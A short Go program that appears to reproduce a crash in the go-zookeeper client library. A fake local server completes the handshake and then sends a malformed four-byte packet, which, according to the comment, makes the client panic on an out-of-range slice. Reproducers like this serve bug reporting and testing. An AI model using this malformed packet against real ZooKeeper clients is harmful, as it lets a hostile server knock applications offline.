// crash: zk conn.go:466 github.com/go-zookeeper/zk@v1.0.4
// A server answers the connect request, and then sends a packet of four bytes that
// begins like an event: the loop that receives slices buf[16:4].
package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"time"

	"github.com/go-zookeeper/zk"
)

func main() {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Println(err)
		return
	}
	go serve(listener)
	if _, _, err := zk.Connect([]string{listener.Addr().String()}, 5*time.Second); err != nil {
		fmt.Println(err)
		return
	}
	time.Sleep(5 * time.Second)
}

func serve(listener net.Listener) {
	c, err := listener.Accept()
	if err != nil {
		return
	}
	var size [4]byte
	if _, err := io.ReadFull(c, size[:]); err != nil {
		return
	}
	if _, err := io.CopyN(io.Discard, c, int64(binary.BigEndian.Uint32(size[:]))); err != nil {
		return
	}
	answer := binary.BigEndian.AppendUint32(nil, 36)
	answer = binary.BigEndian.AppendUint32(answer, 0)     // the version of the protocol
	answer = binary.BigEndian.AppendUint32(answer, 10000) // the timeout
	answer = binary.BigEndian.AppendUint64(answer, 1)     // the session
	answer = binary.BigEndian.AppendUint32(answer, 16)    // and its password
	answer = append(answer, make([]byte, 16)...)
	answer = binary.BigEndian.AppendUint32(answer, 4)
	answer = append(answer, 0xff, 0xff, 0xff, 0xff)
	_, _ = c.Write(answer)
	time.Sleep(5 * time.Second)
}
